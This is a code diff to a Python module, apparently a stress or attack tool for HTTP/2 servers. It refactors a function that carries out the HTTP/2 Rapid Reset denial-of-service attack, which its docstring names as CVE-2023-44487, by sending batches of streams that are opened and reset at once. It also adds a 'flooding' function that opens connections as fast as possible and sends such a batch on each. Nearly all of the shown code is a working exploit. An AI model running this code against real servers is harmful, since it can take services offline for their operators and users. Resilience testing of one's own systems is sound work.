@@ -183,6 +183,16 @@ def never_reading(address: str, going: Going) -> int:
     return sent
 
 
+def _reset_calls(first: int) -> bytes:
+    """A hundred calls that are reset at once, in streams from `first`."""
+    calls = []
+    for stream in range(first, first + 200, 2):
+        calls.append(frame(HEADERS, END_HEADERS, stream, headers("Count")))
+        calls.append(frame(DATA, END_STREAM, stream, message(count())))
+        calls.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
+    return b"".join(calls)
+
+
 def resetting(address: str, going: Going) -> int:
     """Opens streams and resets them at once, for as long as a connection lives
     (CVE-2023-44487)."""
@@ -191,15 +201,20 @@ def resetting(address: str, going: Going) -> int:
         with suppress(OSError), connection(address) as link:
             stream = 1
             while going():
-                calls = []
-                for _ in range(100):
-                    calls.append(frame(HEADERS, END_HEADERS, stream, headers("Count")))
-                    calls.append(frame(DATA, END_STREAM, stream, message(count())))
-                    calls.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
-                    stream += 2
-                link.sendall(b"".join(calls))
+                link.sendall(_reset_calls(stream))
+                stream += 200
                 sent += 100
                 _drain(link)
+    return sent
+
+
+def flooding(address: str, going: Going) -> int:
+    """Opens connections as fast as it can, each for a hundred streams that it resets at once."""
+    sent = 0
+    said = PREFACE + frame(SETTINGS, 0, 0) + _reset_calls(1)
+    while going():
+        with suppress(OSError), connection(address, hello=said):
+            sent += 1
     return sent
 
 
